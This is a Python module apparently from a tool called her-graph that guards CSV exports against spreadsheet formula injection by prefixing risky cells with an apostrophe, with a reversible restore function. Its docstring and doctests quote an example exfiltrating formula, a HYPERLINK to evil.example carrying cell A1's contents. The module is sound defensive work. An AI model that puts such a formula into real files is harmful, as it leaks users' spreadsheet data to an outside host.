"""CSV cells that a spreadsheet shows as text instead of running them as formulas.

Excel, LibreOffice Calc and Google Sheets treat a CSV cell that begins with ``=``, ``+``,
``-`` or ``@`` (or a tab or carriage return) as a formula: a label such as
``=HYPERLINK("https://evil.example/?"&A1, "click")`` in a graph someone else wrote would run
in the reader's spreadsheet (OWASP calls it CSV injection). Every CSV her-graph writes (the
node and edge lists, ``her-graph query --format csv``) therefore goes through
:func:`formula_safe`: such a cell gets a leading apostrophe, which spreadsheets read as "this
is text" and do not display. Numbers such as ``-5`` or ``+1.5e3`` stay as they are: a
spreadsheet reads them as numbers, which run nothing.

The change is reversible, so nothing is lost for pandas or R: a cell that already began with an
apostrophe gets a second one, and :func:`restore` (drop one leading apostrophe) gives back the
exact text::

    df = pandas.read_csv("her-nodes.csv", dtype=str, keep_default_na=False)
    df = df.apply(lambda column: column.str.replace(r"^'", "", regex=True))

(in R: ``df[] <- lapply(df, function(x) sub("^'", "", x))``).

Example:
    >>> formula_safe('=HYPERLINK("https://evil.example")')
    '\\'=HYPERLINK("https://evil.example")'
    >>> formula_safe("-5"), formula_safe("Theodore"), formula_safe("'Tis")
    ('-5', 'Theodore', "''Tis")
    >>> restore(formula_safe("@everyone")) == "@everyone"
    True
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "'")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def formula_safe(cell: str) -> str:
    """``cell`` with an apostrophe in front if a spreadsheet would read it as a formula (or it
    begins with an apostrophe already); numbers and every other text unchanged.

    Example:
        >>> formula_safe("=1+1"), formula_safe("+1"), formula_safe("@home")
        ("'=1+1", '+1', "'@home")
    """
    if cell.startswith(_TRIGGERS) and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def restore(cell: str) -> str:
    """The text :func:`formula_safe` was given: ``cell`` without one leading apostrophe.

    Example:
        >>> restore("'=1+1"), restore("''Tis"), restore("Amy")
        ('=1+1', "'Tis", 'Amy')
    """
    return cell[1:] if cell.startswith("'") else cell


def csv_text(header: Iterable[str], rows: Iterable[Iterable[Any]], *,
             spreadsheet_safe: bool = True) -> str:
    """A CSV table as every her-graph CSV is written: one header row, RFC 4180 line ends
    (``\\r\\n``), and, unless ``spreadsheet_safe=False``, :func:`formula_safe` texts.

    The line ends matter: with ``\\n``, Python's csv module quotes no field that holds a lone
    ``\\r``, and every reader then takes it for the end of the row.

    Example:
        >>> text = csv_text(["name", "events"], [["=1+1", 3], ["line\\rbreak", 2]])
        >>> text.split("\\r\\n")
        ['name,events', "'=1+1,3", '"line\\rbreak",2', '']
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(header)
    if spreadsheet_safe:
        rows = ([formula_safe(cell) if isinstance(cell, str) else cell for cell in row]
                for row in rows)
    writer.writerows(rows)
    return buffer.getvalue()
